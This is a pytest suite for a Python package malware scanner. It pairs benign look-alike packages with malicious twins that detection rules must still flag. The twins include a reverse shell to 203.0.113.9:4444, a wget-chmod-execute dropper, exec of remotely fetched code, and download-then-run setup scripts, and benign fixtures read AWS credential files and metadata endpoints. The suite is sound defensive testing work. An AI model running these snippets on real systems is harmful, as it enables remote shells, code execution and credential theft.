"""THREATS.md's benign look-alikes, rebuilt as real artifacts: each must come out clean."""

from __future__ import annotations

import pytest

from scanner.analyzers.python import ANALYZER
from scanner.model import VerdictLevel
from scanner.pipeline import ScanOptions, scan
from scanner.testing import sdist_bytes, sdist_filename, wheel_bytes, wheel_filename

ONLY_PYTHON = ScanOptions(analyzers=(ANALYZER,))

LOOKALIKES = {
    "virtualenv-pth": ("wheel", {
        "_virtualenv.pth": "import _virtualenv\n",
        "_virtualenv.py": "import os, sys\nVIRTUALENV_PATCH_FILE = os.path.join(__file__)\n"
                          "def patch_dist(dist):\n    old = dist.parse_config_files\n",
    }),
    "pywin32-pth": ("wheel", {
        "pywin32.pth": "# .pth file for the PyWin32 extensions\nwin32\nwin32\\lib\nPythonwin\n"
                       "import pywin32_bootstrap\n",
        "pywin32_bootstrap.py": "import os\nfor p in []:\n    os.add_dll_directory(p)\n",
    }),
    "editable-pth": ("wheel", {
        "__editable__.demo-1.0.pth": "import __editable___demo_1_0_finder; "
                                     "__editable___demo_1_0_finder.install()\n",
        "__editable___demo_1_0_finder.py": "import sys\ndef install():\n"
                                           "    sys.meta_path.append(object())\n",
    }),
    "coverage-pth": ("wheel", {
        "coverage-subprocess.pth": "import coverage; coverage.process_startup()\n",
        "coverage/__init__.py": "import os\ndef process_startup():\n"
                                "    return os.environ.get('COVERAGE_PROCESS_START')\n",
    }),
    "execnet-bootstrap": ("wheel", {
        "execnet/gateway_io.py": "import sys\n"
                                 "def bootstrap():\n    exec(eval(sys.stdin.readline()))\n",
    }),
    "rl-thunk-from-argv": ("wheel", {
        "rl/thunk.py": "import sys, base64, zlib, pickle\n"
                       "if __name__ == '__main__':\n"
                       "    fn = pickle.loads(zlib.decompress(base64.b64decode(sys.argv[1])))\n"
                       "    fn()\n",
    }),
    "codegen-namedtuple-attrs": ("wheel", {
        "gen/__init__.py": "def make_init(fields):\n"
                           "    src = 'def __init__(self, %s): pass' % ', '.join(fields)\n"
                           "    ns = {}\n    exec(compile(src, '<gen>', 'exec'), ns)\n"
                           "    return ns['__init__']\n"
                           "class Point:\n    __init__ = None\n",
    }),
    "protobuf-descriptor": ("wheel", {
        "api/example_pb2.py": "from google.protobuf import descriptor_pool\n"
                              "DESCRIPTOR = descriptor_pool.Default().AddSerializedFile("
                              "b'\\n\\rexample.proto\\x12\\x07example\"\\x1a\\n\\x05Hello"
                              "\\x12\\x11\\n\\x04name\\x18\\x01 \\x01(\\t' * 20)\n",
    }),
    "boto-credentials": ("wheel", {
        "cloud/creds.py": "import os\nimport requests\n"
                          "SHARED = os.path.expanduser('~/.aws/credentials')\n"
                          "METADATA = 'http://169.254.169.254/latest/meta-data/'\n"
                          "def load():\n    return open(SHARED).read()\n"
                          "def metadata():\n    return requests.get(METADATA, timeout=1).text\n",
    }),
    "pyperclip-pynput": ("wheel", {
        "clip/__init__.py": "import subprocess\ndef paste():\n"
                            "    return subprocess.check_output(['xclip', '-o'])\n",
        "keys/__init__.py": "from pynput import keyboard\n"
                            "def listen(cb):\n    return keyboard.Listener(on_press=cb)\n",
    }),
    "cmake-build-ext": ("sdist", {
        "setup.py": "import os, subprocess\nfrom setuptools import setup\n"
                    "from setuptools.command.build_ext import build_ext\n"
                    "class CMakeBuild(build_ext):\n    def run(self):\n"
                    "        subprocess.check_call(['cmake', '-S', '.', '-B', 'build'])\n"
                    "        subprocess.check_call(['ninja', '-C', 'build'])\n"
                    "setup(name='x', cmdclass={'build_ext': CMakeBuild})\n",
    }),
    "version-exec-and-git": ("sdist", {
        "setup.py": "import subprocess\nfrom setuptools import setup\n"
                    "about = {}\nexec(open('pkg/__about__.py').read(), about)\n"
                    "rev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).strip()\n"
                    "setup(name='x', version=about['__version__'])\n",
        "pkg/__about__.py": "__version__ = '1.0'\n",
    }),
    # Bot libraries ship the bare API base URL; the token comes from the user at runtime.
    "telegram-bot-library": ("wheel", {
        "tgbot/_bot.py": "import requests\n"
                         "class Bot:\n"
                         "    def __init__(self, token, base_url='https://api.telegram.org/bot'):\n"
                         "        self.url = f'{base_url}{token}'\n"
                         "    def call(self, endpoint, data):\n"
                         "        return requests.post(f'{self.url}/{endpoint}', json=data)\n"
                         "DEFAULT = 'https://api.telegram.org/bot'\n",
    }),
    # Error reporters ask the cloud metadata service which cloud they run on.
    "metadata-client": ("wheel", {
        "sdk/cloud.py": "import urllib3\n"
                        "HOST = '169.254.169.254'\n"
                        "TOKEN_URL = 'http://{}/latest/api/token'.format(HOST)\n"
                        "DOC_URL = 'http://{}/latest/dynamic/instance-identity/document'"
                        ".format(HOST)\n"
                        "class Cloud:\n    http = urllib3.PoolManager(timeout=2.0)\n"
                        "    token = ''\n"
                        "    @classmethod\n    def is_aws(cls):\n"
                        "        r = cls.http.request('PUT', TOKEN_URL, headers={'ttl': '60'})\n"
                        "        cls.token = r.data.decode()\n"
                        "    @classmethod\n    def context(cls):\n"
                        "        return cls.http.request('GET', DOC_URL, "
                        "headers={'X-aws-ec2-metadata-token': cls.token})\n",
    }),
    # API clients read their own key from one named variable and send it to their API.
    "api-client-env-key": ("wheel", {
        "client/__init__.py": "import os, requests\n"
                              "API_KEY = os.environ.get('EXAMPLE_API_KEY')\n"
                              "def complete(prompt):\n"
                              "    return requests.post('https://api.example.invalid/v1',\n"
                              "        headers={'Authorization': f'Bearer {API_KEY}'},\n"
                              "        json={'prompt': prompt}).json()\n",
    }),
    # Building a bundled C library: configure via a path helper, make from $MAKE, a compiler
    # probe from $CXX (pynacl, grpcio-tools).
    "build-probe-setup": ("sdist", {
        "setup.py": "import os, shlex, subprocess\nfrom setuptools import setup\n"
                    "from setuptools.command.build_clib import build_clib\n"
                    "def abshere(*paths):\n    return os.path.abspath(os.path.join(*paths))\n"
                    "class BuildClib(build_clib):\n    def run(self):\n"
                    "        make = os.environ.get('MAKE') or 'make'\n"
                    "        configure = abshere('src/libexample/configure')\n"
                    "        subprocess.check_call([configure] + ['--disable-shared'])\n"
                    "        subprocess.check_call([make] + ['install'])\n"
                    "def needs_atomic():\n"
                    "    cxx = os.environ.get('CXX', 'c++')\n"
                    "    probe = subprocess.Popen(shlex.split(cxx) + ['-x', 'c++', '-'])\n"
                    "    return probe.wait() != 0\n"
                    "ATOMIC = needs_atomic()\n"
                    "setup(name='x', cmdclass={'build_clib': BuildClib})\n",
    }),
    # urllib3 probes for IPv6 at import by binding ::1 inside try/except: pass.
    "ipv6-probe": ("wheel", {
        "net/connection.py": "import socket\n"
                             "def _has_ipv6(host):\n    sock = None\n    ok = False\n"
                             "    try:\n        sock = socket.socket(socket.AF_INET6)\n"
                             "        sock.bind((host, 0))\n        ok = True\n"
                             "    except Exception:\n        pass\n"
                             "    if sock:\n        sock.close()\n    return ok\n"
                             "HAS_IPV6 = _has_ipv6('::1')\n",
    }),
    # Generated docstrings with wide markdown tables (gymnasium, aws-cdk-lib).
    "docstring-table": ("wheel", {
        "envs/ant.py": 'class Ant:\n    """Arguments.\n\n    | Parameter | Type |' + " " * 170
                       + '| Default |\n    | `xml_file` | **str** |' + " " * 170
                       + '| `"ant.xml"` |\n    """\n    frame_skip = 5\n',
    }),
    # A dataset tool that downloads metadata, writes a Dockerfile and runs docker, each in its
    # own function: three steps, no dropper.
    "download-write-run-unrelated": ("wheel", {
        "tool/images.py": "import json, subprocess, urllib.request\n"
                          "def tags(repo):\n"
                          "    return json.load(urllib.request.urlopen("
                          "'https://hub.example.invalid/v2/' + repo))\n"
                          "def write_dockerfile(path, base):\n"
                          "    with open(path, 'w') as f:\n        f.write('FROM ' + base)\n"
                          "def inspect(image):\n"
                          "    return subprocess.run(['docker', 'image', 'inspect', image])\n",
    }),
    # versioneer: run_command() spawns whatever its callers name, and they name git. The
    # module is over 16 KB, so its callers must survive the big-file statement selection.
    "versioneer-run-command": ("sdist", {
        "setup.py": "import versioneer\nfrom setuptools import setup\n"
                    "setup(name='x', version=versioneer.git_pieces('.'))\n",
        "versioneer.py": "import subprocess, sys\n"
                         "def run_command(commands, args, cwd=None):\n"
                         "    for command in commands:\n"
                         "        process = subprocess.Popen([command] + args, cwd=cwd,\n"
                         "                                   stdout=subprocess.PIPE)\n"
                         "        return process.communicate()[0]\n"
                         "def git_pieces(root, runner=run_command):\n"
                         "    GITS = ['git']\n"
                         "    if sys.platform == 'win32':\n"
                         "        GITS = ['git.cmd', 'git.exe']\n"
                         "    runner(GITS, ['describe', '--tags'], cwd=root)\n"
                         "    return run_command(GITS, ['rev-parse', 'HEAD'], cwd=root)\n"
                         "def get_version():\n    return git_pieces('.')\n"
                         + "".join(f"def helper_{i}(x):\n    # padding past the big-file "
                                   f"limit\n    return x + {i}\n" for i in range(400)),
    }),
    # Release helpers in setup.py: verbs the maintainer types, never run by pip.
    "setup-release-verbs": ("sdist", {
        "setup.py": "import os, sys, subprocess\nfrom setuptools import setup, Command\n"
                    "if sys.argv[-1] == 'publish':\n"
                    "    os.system('python setup.py sdist bdist_wheel')\n"
                    "    os.system('twine upload dist/*')\n    sys.exit()\n"
                    "class UploadCommand(Command):\n    user_options = []\n"
                    "    def run(self):\n        os.system('twine upload dist/*')\n"
                    "        subprocess.check_call(['gh', 'release', 'create'])\n"
                    "setup(name='x', cmdclass={'upload': UploadCommand})\n",
    }),
    # setup.py imports its own package for __version__; the package's functions (a cookie
    # codec decoding base64 then pickle) do not run at install.
    "setup-imports-own-module": ("sdist", {
        "setup.py": "from setuptools import setup\nimport webfw\n"
                    "setup(name='webfw', version=webfw.__version__)\n",
        "webfw.py": "import base64, pickle\n__version__ = '1.0'\n"
                    "def cookie_decode(data):\n"
                    "    return pickle.loads(base64.b64decode(data))\n",
    }),
    # A test kernel that runs an interactive shell with a command, and a fixture that polls a
    # health endpoint while it starts docker compose.
    "test-shell-and-compose": ("wheel", {
        "kernels/signal.py": "import subprocess\ndef start():\n"
                             "    return subprocess.Popen(['bash', '-i', '-c', 'sleep 30'])\n",
        "fixtures/compose.py": "import subprocess, requests\ndef stack():\n"
                               "    subprocess.check_call(['docker', 'compose', 'up', '-d'])\n"
                               "    return requests.get('http://localhost:8000/health')\n",
    }),
    # Finding this machine's own addresses by resolving its own host name.
    "own-hostname-lookup": ("wheel", {
        "net/interfaces.py": "import socket\ndef public_ips():\n"
                             "    hostname = socket.gethostname()\n"
                             "    ips = socket.gethostbyname_ex(hostname)[2]\n"
                             "    ips += socket.gethostbyname_ex(hostname + '.local')[2]\n"
                             "    return ips\n",
    }),
    # Keras loads a saved lambda: base64 then marshal over the caller's argument, not a blob.
    "saved-lambda-loader": ("wheel", {
        "mlkit/utils.py": "import codecs, marshal, types\n"
                          "def func_load(code, globs=None):\n"
                          "    raw_code = codecs.decode(code.encode('ascii'), 'base64')\n"
                          "    code = marshal.loads(raw_code)\n"
                          "    return types.FunctionType(code, globs or globals())\n",
    }),
    # A test fixture starts a local server, logs to a file and polls its health with curl.
    "local-server-health-check": ("wheel", {
        "suite/infra.py": "import subprocess, sys\n"
                          "def start(port):\n"
                          "    with open('server.log', 'w') as f:\n"
                          "        subprocess.Popen([sys.executable, '-m', 'http.server'], "
                          "stdout=f)\n"
                          "    return subprocess.run(['curl', '-s', "
                          "f'http://127.0.0.1:{port}/health'])\n",
    }),
    # A build script that downloads a symbol list and runs nm on the built library.
    "symbols-script": ("sdist", {
        "setup.py": "from setuptools import setup\nsetup(name='x')\n",
        "cmake/collect_symbols.py": "import subprocess, urllib.request\n"
                                    "data = urllib.request.urlopen("
                                    "'https://example.invalid/symbols.txt').read()\n"
                                    "with open('linker.sym', 'w') as f:\n"
                                    "    f.write(data.decode())\n"
                                    "out = subprocess.check_output(['nm', '-gjU', 'libx.dylib'])\n",
    }),
}


@pytest.mark.parametrize("name", sorted(LOOKALIKES))
def test_lookalike_is_clean(name: str) -> None:
    kind, files = LOOKALIKES[name]
    if kind == "sdist":
        data, filename = sdist_bytes("demo", "1.0", files), sdist_filename("demo", "1.0")
    else:
        data, filename = wheel_bytes("demo", "1.0", files), wheel_filename("demo", "1.0")
    result = scan(data, ONLY_PYTHON, filename=filename)
    assert result.verdict.level is VerdictLevel.CLEAN, [f.to_dict() for f in result.findings]


# --- look-alikes from the top-1000 benign run: each pairs with a malicious twin that must
# still fire, so a test passes only because the tell-apart works, not because a rule died.

def _rules(kind: str, files: dict[str, str | bytes], options: ScanOptions | None = ONLY_PYTHON
           ) -> set[str]:
    if kind == "sdist":
        data, filename = sdist_bytes("demo", "1.0", files), sdist_filename("demo", "1.0")
    else:
        data, filename = wheel_bytes("demo", "1.0", files), wheel_filename("demo", "1.0")
    result = scan(data, options, filename=filename) if options else scan(data, filename=filename)
    return {f.rule for f in result.findings}


_FD_HANDOFF = ("import os, socket, sys\n"
               "left, right = socket.socketpair()\n"
               "if os.fork() == 0:\n"
               "    os.dup2(right.fileno(), {fd})\n"
               "    os.execv('/bin/sh', ['/bin/sh', 'worker.sh'])\n")


def test_socket_handed_to_fd_3_is_not_a_reverse_shell() -> None:
    # systemd-style socket activation: the child gets a local socket as fd 3.
    assert "python.process.reverse-shell" not in _rules(
        "wheel", {"agent/bridge.py": _FD_HANDOFF.format(fd=3)})


def test_connected_socket_on_stdio_is_still_a_reverse_shell() -> None:
    code = ("import os, socket, pty\n"
            "s = socket.socket()\ns.connect(('203.0.113.9', 4444))\n"
            "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n")
    assert "python.process.reverse-shell" in _rules("wheel", {"agent/bridge.py": code})


_VENDOR = ("import os\n"
           "os.system('{fetch}')\n"
           "os.system('tar xf lib-1.0.tar.gz')\n"
           "os.system('mv lib.h lib.hpp')\n")


def test_script_fetching_a_source_tarball_is_not_a_dropper() -> None:
    rules = _rules("wheel", {"vendor/update_lib.py": _VENDOR.format(
        fetch="wget https://example.invalid/lib-1.0.tar.gz")})
    assert "python.network.file-fetch" in rules
    assert not rules & {"python.flow.download-execute", "python.process.shell-download"}


def test_fetch_then_run_in_one_command_is_still_a_dropper() -> None:
    rules = _rules("wheel", {"vendor/update_lib.py": _VENDOR.format(
        fetch="wget https://example.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x")})
    assert "python.process.shell-download" in rules


_SETUP_RUNNER = ("import subprocess, sys, urllib.request, io, zipfile\n"
                 "def call(cmd):\n    return subprocess.call(cmd)\n"
                 "def fetch_fonts():\n"
                 "    raw = urllib.request.urlopen('https://example.invalid/fonts.zip').read()\n"
                 "    with open('{target}', 'wb') as out:\n        out.write(raw)\n"
                 "def main():\n    if 'test' in sys.argv:\n"
                 "        call([sys.executable, '{script}'])\n"
                 "    fetch_fonts()\n"
                 "main()\n")


def test_helper_running_own_test_script_is_not_download_execute() -> None:
    rules = _rules("sdist", {"setup.py": _SETUP_RUNNER.format(target="fonts/a.pfb",
                                                              script="runtests.py")})
    assert "python.flow.download-execute" not in rules
    assert "python.process.spawn" not in rules


def test_helper_running_the_downloaded_script_is_download_execute() -> None:
    rules = _rules("sdist", {"setup.py": _SETUP_RUNNER.format(target="stage.py",
                                                              script="stage.py")})
    assert "python.flow.download-execute" in rules


_PROVISION = ("import hashlib, os, subprocess, urllib.request\n"
              "def download(url, dest):\n    urllib.request.urlretrieve(url, dest)\n"
              "def fetch_tool(url, dest):\n    download(url, dest)\n{verify}"
              "    os.chmod(dest, 0o755)\n"
              "def run_tool(path, args):\n    return subprocess.run([path] + args)\n")
_CHECK = ("    digest = hashlib.sha256(open(dest, 'rb').read()).hexdigest()\n"
          "    if digest != PINNED:\n        raise SystemExit('checksum mismatch')\n")


def test_checksum_pinned_tool_download_is_provisioning() -> None:
    rules = _rules("wheel", {"build/provision.py": _PROVISION.format(verify=_CHECK)})
    assert "python.flow.download-execute" not in rules


def test_unverified_tool_download_is_download_execute() -> None:
    rules = _rules("wheel", {"build/provision.py": _PROVISION.format(verify="")})
    assert "python.flow.download-execute" in rules


_MIRROR = ("import subprocess, tempfile, os\n"
           "def mirror(url):\n"
           "    path = os.path.join(tempfile.mkdtemp(), 'archive.tar.gz')\n"
           "    subprocess.run(['curl', url, '-o', path], check=True)\n"
           "    subprocess.run({run}, check=True)\n")


def test_fetch_then_named_tool_in_one_function_is_not_download_execute() -> None:
    rules = _rules("wheel", {"tools/mirror.py": _MIRROR.format(
        run="['gcloud', 'storage', 'cp', 'x', 'gs://bucket/']")})
    assert "python.flow.download-execute" not in rules


def test_fetch_then_run_fetched_path_is_download_execute() -> None:
    rules = _rules("wheel", {"tools/mirror.py": _MIRROR.format(run="[path]")})
    assert "python.flow.download-execute" in rules


def test_annotated_build_command_is_a_build_tool() -> None:
    setup = ("import subprocess, shutil\nfrom setuptools import setup\n"
             "from setuptools.command.build_ext import build_ext\n"
             "class Build(build_ext):\n    def run(self):\n"
             "        cmd: list[str] = ['cargo', 'build', '--release']\n"
             "        subprocess.run(cmd, check=True)\n"
             "        objcopy: str | None = shutil.which('objcopy')\n"
             "        subprocess.run([objcopy, '--only-keep-debug', 'a.so', 'a.debug'])\n"
             "setup(name='x', cmdclass={'build_ext': Build})\n")
    assert "python.process.spawn" not in _rules("sdist", {"setup.py": setup})


def test_tiny_gzip_fixture_under_py_name_is_not_a_disguised_archive() -> None:
    import gzip
    import os as _os
    tiny = gzip.compress(b"test()\n")
    big = gzip.compress(_os.urandom(4096))
    assert "binary.archive.misnamed" not in _rules("sdist", {"examples/fixture.py": tiny},
                                                   None)
    assert "binary.archive.misnamed" in _rules("sdist", {"examples/fixture.py": big}, None)


def _install_rules(files: dict[str, str]) -> set[str]:
    data = sdist_bytes("demo", "1.0", files)
    result = scan(data, ONLY_PYTHON, filename=sdist_filename("demo", "1.0"))
    return {f.rule for f in result.findings if str(f.context) == "install"}


_IMPORTED_AT_SETUP = {
    "setup.py": "from setuptools import setup\nimport demo\n"
                "setup(name='demo', version=demo.VERSION)\n",
    "demo/__init__.py": "import demo.net\nfrom demo.config import Conf\nVERSION = '1.0'\n"
                        "conf = Conf()\n",
    "demo/config.py": "class Conf:\n    def __init__(self):\n        self.debug = False\n",
    "demo/net.py": "import socket\nclass Probe:\n    def __init__(self, host):\n"
                   "        self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                   "        self.s.sendto(b'q', (host, 53))\n",
}


def test_install_helpers_run_the_constructor_of_the_class_built_not_every_init() -> None:
    """Calls made at install name the functions of other install files by their last name part,
    but a constructor by its class: building one Conf at install must not make every class's
    __init__ in the package install-time code (scapy's setup.py imports the package)."""
    from scanner.analyzers.python import _entry_name

    assert _entry_name("Conf.__init__") == "Conf.__init__"
    assert _entry_name("config.Conf.__init__") == "Conf.__init__"
    assert _entry_name("helpers.run") == "run"
    assert not _install_rules(_IMPORTED_AT_SETUP)


def test_a_class_instantiated_at_install_runs_at_install() -> None:
    files = dict(_IMPORTED_AT_SETUP)
    files["demo/net.py"] += "Probe('collector.invalid')\n"
    assert {"python.network.socket", "score.chain.install-network"} <= _install_rules(files)


def test_python2_exec_of_a_local_file_is_not_remote_code() -> None:
    """The token fallback (for Python 2 and unparseable files): ``exec compile(open(f).read()
    ...)`` runs a local file; a ``.read()`` of anything else may be a download."""
    from scanner.analyzers.python.tokens import _LINE_RULES

    [remote] = [pattern for pattern, rule, _ in _LINE_RULES if rule == "python.exec.remote-code"]
    assert not remote.search("    exec compile(open(fname).read(), fname, 'exec') in glob, loc")
    assert remote.search("exec urllib2.urlopen('http://collector.invalid/x').read()")
    assert remote.search("exec(response.read())")


def _severities(files: dict[str, str], rule: str) -> set[str]:
    data = wheel_bytes("demo", "1.0", files)
    result = scan(data, ONLY_PYTHON, filename=wheel_filename("demo", "1.0"))
    return {str(f.severity) for f in result.findings if f.rule == rule}


def test_a_bot_librarys_bare_api_base_url_is_a_lead_not_a_high_finding() -> None:
    """A progress-bar or notifier integration keeps the messenger's API base in a class body
    (it runs at import): a lead, never high severity by itself. A base URL armed with a bot
    token is a drop box someone controls."""
    template = ("class TelegramIO:\n    API = 'https://api.telegram.org/bot'\n"
                "    def __init__(self, token):\n        self.token = token\n")
    armed = ("class TelegramIO:\n    API = 'https://api.telegram.org/bot"
             "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage'\n")
    assert _severities({"demo/contrib/telegram.py": template},
                       "python.network.messenger") == {"medium"}
    assert _severities({"demo/contrib/telegram.py": armed},
                       "python.network.messenger") == {"high"}
